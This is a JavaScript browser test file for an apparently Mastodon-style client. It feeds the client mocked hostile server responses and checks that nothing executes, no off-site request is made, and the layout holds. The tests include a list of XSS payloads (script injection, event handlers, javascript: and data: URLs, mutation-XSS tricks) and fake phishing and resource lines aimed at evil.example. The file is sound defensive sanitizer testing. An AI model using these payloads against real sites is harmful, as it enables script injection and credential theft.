// What a hostile server could send, as if ours had let it through: nothing of it runs, nothing is loaded from elsewhere, and the layout
// holds, in every place that shows words of others.  The corpora of the shared reference data come on top when they are there.
import test from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { base } from './browser.mjs';
import { api, fits, open, withClient } from './client.mjs';

const shared = process.env.DASSIE_SHARED ?? join(dirname(fileURLToPath(import.meta.url)), '../../../shared');

const own = [
  '<script>ran("script")</script>', '<img src=x onerror="ran(\'img\')">', '<svg><script>ran("svg")</script></svg>', '<a href="javascript:ran(\'href\')">go</a>', '<a href=" jav&#x09;ascript:ran(1)">tab</a>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>', '<math><mi><mglyph><style><img src=x onerror=ran(1)></style></mglyph></mi></math>', '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>', '<p style="position:fixed;inset:0;background:red">over all</p>', '<p id="column" class="dialog lost">names of ours</p>',
  '<img src="https://evil.example/pixel.png">', '<video src="https://evil.example/v" autoplay onloadstart=ran(1)></video>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="https://evil.example"></object><embed src="https://evil.example">', '<a href="data:text/html,<script>ran(1)</script>">data</a>', '<p onclick="ran(1)" onmouseover="ran(1)" autofocus onfocus="ran(1)" tabindex=1>p</p>',
  '<template><img src=x onerror=ran(1)></template>', '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>', '<a class="mention" href="https://here.invalid/@x" ping="https://evil.example">m</a>', '<p>'.repeat(5000) + 'deep',
];

const zalgo = 'Z' + '\u0335\u0348\u0353\u031b\u0322\u0321'.repeat(40) + 'algo';
const names = { 'ten thousand letters': 'W'.repeat(10_000), 'right to left': '\u202eevil \u2066\u2067\u202d name', zalgo, 'a hundred emoji': ':hostile:'.repeat(100), markup: '<b onclick=ran(1)>bold</b><script>ran(1)</script>',
  'nothing to see': '\u200b\u200d\ufeff', lines: 'a\n\n\n\n\n\n\nb', wide: '\ufdfd'.repeat(50) };

async function corpora() {
  const found = [], purify = join(shared, 'corpora/html/dompurify/fixtures/expect.mjs'), loofah = join(shared, 'corpora/html/loofah/testdata_sanitizer_tests1.dat'), blns = join(shared, 'corpora/text/blns/blns.json');
  if (existsSync(purify)) for (const c of (await import(purify)).default) found.push(c.payload);
  if (existsSync(loofah)) for (const [, text] of readFileSync(loofah, 'utf8').matchAll(/"input": ("(?:[^"\\]|\\.)*")/g)) found.push(JSON.parse(text));
  if (existsSync(blns)) found.push(...JSON.parse(readFileSync(blns, 'utf8')).filter(x => /[<&]/.test(x)));
  return found.map(x => String(x ?? ''));
}

const emojis = [{ shortcode: 'hostile', url: `${base}/static/broken.png`, static_url: `${base}/static/broken.png`, visible_in_picker: true }];
let next = 1_000_000;
const person = (template, display_name) => ({ ...template, id: String(++next), username: `u${next}`, acct: `u${next}@${'long-'.repeat(40)}example.org`, url: 'javascript:ran(1)', display_name, emojis, note: `<p>${display_name}</p>${own[1]}`,
  avatar: `${base}/static/broken.png`, avatar_static: `${base}/static/broken.png`, fields: [{ name: display_name, value: own.join(''), verified_at: null }] });
const post = (template, account, content, more = {}) => ({ ...template, id: String(++next), account, content, emojis, url: 'javascript:ran(1)', uri: 'x', visibility: 'public', mentions: [], tags: [], media_attachments: [], ...more });
const media = description => ['image', 'video', 'audio', 'gifv', 'unknown'].slice(0, 4).map(type => ({ id: String(++next), type, url: `${base}/media/broken`, preview_url: `${base}/media/broken`, remote_url: 'javascript:ran(1)', description, blurhash: 'not a hash', meta: { original: { width: 1, height: 100_000 } } }));
const card = title => ({ url: 'javascript:ran(1)', title, description: title, type: 'video', provider_name: title, authors: [], html: own.join(''), image: `${base}/media/broken`, width: 9, height: 1, embed_url: 'javascript:ran(1)', blurhash: '%%%' });

// fn(page, check): the worker is left out, so that answers can be put in the server's place.
const withHostile = fn => withClient(async page => {
  const ran = [], elsewhere = [];
  await page.exposeFunction('ran', what => ran.push(what));
  page.on('dialog', d => { ran.push('dialog'); void d.dismiss(); });
  page.on('request', r => { if (/^(https?|wss?):/.test(r.url()) && new URL(r.url()).host !== new URL(base).host) elsewhere.push(r.url()); });
  await fn(page, what => assert.deepEqual({ ran, elsewhere }, { ran: [], elsewhere: [] }, what));
}, { serviceWorkers: 'block' });

const answerWith = (page, path, json) => page.route(url => url.pathname === path, (route, request) => (request.method() === 'GET' ? route.fulfill({ json }) : route.continue()));

test('content of any kind becomes only elements and attributes of the list', () => withHostile(async (page, check) => {
  const root = await api('POST', '/api/v1/statuses', { status: 'Above' }), me = root.account;
  const payloads = [...own, ...await corpora()], replies = payloads.map((content, i) => post(root, me, content, { in_reply_to_id: root.id, spoiler_text: i % 7 === 0 ? content.slice(0, 500) : '' }));
  await answerWith(page, `/api/v1/statuses/${root.id}/context`, { ancestors: [], descendants: replies });
  await page.setViewportSize({ width: 360, height: 800 });
  await open(page, `/@${me.acct}/${root.id}`);
  await page.locator('.descendants article').nth(own.length - 2).waitFor();
  const wrong = await page.evaluate(() => {
    const tags = new Set('DIV P BR SPAN A DEL S PRE BLOCKQUOTE CODE B STRONG U I EM UL OL LI RUBY RT RP IMG'.split(' ')), attributes = new Set('class lang dir start reversed value href target rel src alt title draggable loading'.split(' '));
    const found = [];
    for (const e of document.querySelectorAll('.descendants .content *')) {
      if (!tags.has(e.tagName)) found.push(e.tagName);
      for (const a of e.attributes) if (!attributes.has(a.name)) found.push(`${e.tagName} ${a.name}`);
      if (e.id || (e.href && /^(javascript|data|vbscript|blob):/i.test(e.protocol))) found.push(`${e.tagName} ${e.id} ${e.href}`);
    }
    return found;
  });
  assert.deepEqual(wrong, []);
  await fits(page, 'a thread of hostile posts');
  check('a thread');
}));

test('names, texts and files of any kind stay in their place', () => withHostile(async (page, check) => {
  const one = await api('POST', '/api/v1/statuses', { status: 'Template' }), me = one.account;
  const people = Object.values(names).map(n => person(me, n)), texts = Object.values(names);
  const posts = people.flatMap((a, i) => [post(one, a, `<p>${texts[i]}</p>`, { card: card(texts[i]), tags: [{ name: texts[i], url: 'x' }] }),
    post(one, a, own[i], { media_attachments: media(texts[i]), spoiler_text: i % 2 ? texts[i] : '', reactions: [{ name: texts[i].slice(0, 200), count: 1e12, me: false }], favourites_count: 1e15, reblogs_count: 1e15 }),
    post(one, a, '', { reblog: post(one, people[0], own[1]) }),
    post(one, a, '', { poll: { id: '1', expires_at: null, expired: false, multiple: true, votes_count: 1, voted: false, own_votes: [], emojis, options: [{ title: texts[i], votes_count: 1 }, { title: own[0], votes_count: 0 }] } })]);
  const group = (type, more = {}) => ({ group_key: `${type}-${++next}`, notifications_count: 1e9, type, most_recent_notification_id: ++next, page_min_id: '1', sample_account_ids: people.map(p => p.id), latest_page_notification_at: one.created_at, ...more });
  const history = [{ day: '1', uses: '1e9', accounts: 'NaN' }, { day: '2', uses: '-5', accounts: '' }];
  await answerWith(page, '/api/v1/timelines/home', posts);
  await answerWith(page, '/api/v2/notifications', { accounts: people, statuses: posts, notification_groups: [
    ...['favourite', 'reblog', 'mention', 'quote', 'update', 'poll'].map((k, i) => group(k, { status_id: posts[i * 4].id })), group('follow'), group('follow_request'), group('kind_of_tomorrow', { fallback: { title: zalgo, summary: names['ten thousand letters'] } }),
    group('severed_relationships', { event: { type: 'x', target_name: names['ten thousand letters'], followers_count: 1e9, following_count: -1 } }), group('moderation_warning', { moderation_warning: { action: 'x', text: own.join('') } }),
    group('added_to_collection', { collection: { id: '1', name: names['ten thousand letters'], account_id: '1' } }), group('admin.report', { report: { category: 'x', comment: own.join('') + zalgo, target_account: people[0] } })] });
  await answerWith(page, '/api/v1/conversations', posts.filter((_, i) => i % 4 === 0).map((last_status, i) => ({ id: String(i + 1), unread: true, accounts: people.slice(0, i + 1), last_status })));
  await answerWith(page, '/api/v2/search', { accounts: people, statuses: posts.slice(0, 8), hashtags: texts.map(name => ({ id: '1', name, url: 'x', history, following: false })) });
  await answerWith(page, '/api/v1/trends/tags', texts.map(name => ({ id: '1', name, url: 'x', history, following: true })));
  await answerWith(page, '/api/v1/trends/links', texts.map(x => ({ ...card(x), url: `javascript:${x.length}`, history })));
  await answerWith(page, '/api/v2/suggestions', people.map(account => ({ source: 'x', sources: ['x', 'featured'], account })));
  await answerWith(page, '/api/v1/announcements', texts.map((x, i) => ({ id: String(i), content: x + own.join(''), published_at: one.created_at, mentions: [], tags: [], emojis, statuses: [], reactions: [{ name: x.slice(0, 300), count: 1, me: false }] })));
  await answerWith(page, '/api/v1/lists', texts.map((title, i) => ({ id: String(i + 1), title })));
  await answerWith(page, '/api/v1/notifications/requests', people.map((account, i) => ({ id: String(i + 1), account, notifications_count: '99', created_at: one.created_at, updated_at: one.created_at, last_status: posts[i * 4] })));
  await answerWith(page, '/api/v1/accounts/lookup', people[0]);
  const places = ['/home', '/notifications', '/notifications/requests', '/conversations', '/search?q=x', '/explore/tags', '/explore/links', '/explore/people', '/lists', `/@${people[0].acct}`];
  for (const [i, path] of places.entries()) {
    await page.setViewportSize({ width: 360, height: 1000 });
    await open(page, path);
    for (const width of i < 5 ? [360, 1440] : [360]) {
      await page.setViewportSize({ width, height: 1000 });
      await fits(page, `${path} at ${width}`);
      const tall = await page.evaluate(() => [...document.querySelectorAll('.column .row, .column .tag-row, .column .suggestion, .column li, .side, .account-corner')].filter(e => e.getBoundingClientRect().height > 3000).map(e => [...e.querySelectorAll('*')].filter(x => x.getBoundingClientRect().height > 3000).map(x => `${x.tagName}.${x.className}`).join(' > ')));
      if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/hostile-${width}-${path.replace(/\W+/g, '_')}.png` });
      assert.deepEqual(tall, [], `${path} at ${width}`);
      const outside = await page.evaluate(() => document.querySelectorAll('a[href^="javascript:" i], a[href^="data:" i], .column script, .column iframe, .column style, .column form[action]').length);
      assert.equal(outside, 0, `${path} at ${width}`);
      check(path);
    }
  }
}));
